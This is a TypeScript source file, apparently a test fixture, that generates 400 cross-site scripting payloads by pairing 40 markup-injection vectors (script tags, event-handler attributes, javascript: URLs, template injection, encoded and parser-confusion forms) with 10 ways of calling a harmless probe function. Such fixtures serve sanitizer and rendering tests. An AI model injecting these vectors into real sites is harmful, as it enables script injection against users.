// Texts that would run as a script where a page took words for markup: each calls window.ran with its number.

const calls: readonly ((place: number) => string)[] = [
  (place) => `ran(${String(place)})`,
  (place) => `window['ran'](${String(place)})`,
  (place) => `top.ran(${String(place)})`,
  (place) => `ran\`${String(place)}\``,
  (place) => `self[/ra/.source+'n'](${String(place)})`,
  (place) => `setTimeout('ran(${String(place)})')`,
  (place) => `eval('ran('+${String(place)}+')')`,
  (place) => `import('data:text/javascript,ran(${String(place)})')`,
  (place) => `Function('ran(${String(place)})')()`,
  (place) => `\\u0072an(${String(place)})`,
];

const frames: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</title></style></script><script>${call}</script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<img/src='x'/onerror='${call}'>`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `<svg onload="${call}">`,
  (call) => `<svg/onload=${call}//`,
  (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  (call) => `<body onload="${call}">`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<a href="javascript:${call}" id=x>x</a>`,
  (call) => `<a href="JaVa&#x09;ScRiPt:${call}">x</a>`,
  (call) => `[x](javascript:${call})`,
  (call) =>
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${call}//'>`,
  (call) => `<details open ontoggle="${call}">`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<select autofocus onfocus="${call}">`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<audio src=x onerror="${call}">`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<form><button formaction="javascript:${call}">x</button></form>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror="${call}">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror='${call}'>">`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (call) => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${call})}">`,
  (call) => `<style>@import 'javascript:${call}';</style>`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `' onmouseover='${call}' x='`,
  (call) => `" style="animation-name:x" onanimationstart="${call}"`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
];

/** Four hundred of them: each frame with each way to call. */
export function scriptPayloads(): readonly string[] {
  return frames.flatMap((frame, row) => calls.map((call, column) => frame(call(row * calls.length + column))));
}
